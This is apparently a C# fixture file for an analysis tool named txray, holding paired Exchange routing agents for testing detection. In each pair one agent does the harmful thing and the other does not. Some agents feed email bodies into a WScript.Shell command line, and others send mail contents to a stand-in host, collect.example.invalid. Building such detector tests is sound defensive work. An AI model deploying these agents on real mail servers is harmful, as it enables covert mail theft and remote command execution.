// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Ways out that no member of a program or a socket names.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.IO;
using System.Net;
using System.Reflection;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;

// 307: a COM shell that runs what a mail says, through dynamic, and one that runs a fixed command
namespace Txray.Pairs.P307
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            dynamic shell = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));
            shell.Run("cmd.exe /c rem " + body, 0, false);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            dynamic shell = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));
            shell.Run("cmd.exe /c rem", 0, false);
        }
    }
}

// 308: a COM shell called by reflection with mail, and with its size
namespace Txray.Pairs.P308
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            Type type = Type.GetTypeFromProgID("wscript.shell");
            type.InvokeMember("Run", BindingFlags.InvokeMethod, null, Activator.CreateInstance(type), new object[] { "cmd.exe /c rem " + body, 0, false });
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            Type type = Type.GetTypeFromProgID("wscript.shell");
            type.InvokeMember("Run", BindingFlags.InvokeMethod, null, Activator.CreateInstance(type), new object[] { "cmd.exe /c rem " + body.Length, 0, false });
        }
    }
}

// 309: content in the query string of a client, and its length
namespace Txray.Pairs.P309
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            var client = new WebClient();
            client.QueryString.Add("d", body);
            client.DownloadString("https://collect.example.invalid/pair");
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            var client = new WebClient();
            client.QueryString.Add("d", body.Length.ToString());
            client.DownloadString("https://collect.example.invalid/pair");
        }
    }
}

// 311: an address that the client completes, on the network and on this machine
namespace Txray.Pairs.P311
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly System.Net.Http.HttpClient client = new System.Net.Http.HttpClient { BaseAddress = new Uri("https://collect.example.invalid/v1/") };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            client.PostAsync("pair", new System.Net.Http.StreamContent(e.MailItem.Message.Body.GetContentReadStream())).Wait();
        }
    }

    public class Other : RoutingAgent
    {
        private readonly System.Net.Http.HttpClient client = new System.Net.Http.HttpClient { BaseAddress = new Uri("http://127.0.0.1:8080/") };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            client.PostAsync("pair", new System.Net.Http.StreamContent(e.MailItem.Message.Body.GetContentReadStream())).Wait();
        }
    }
}
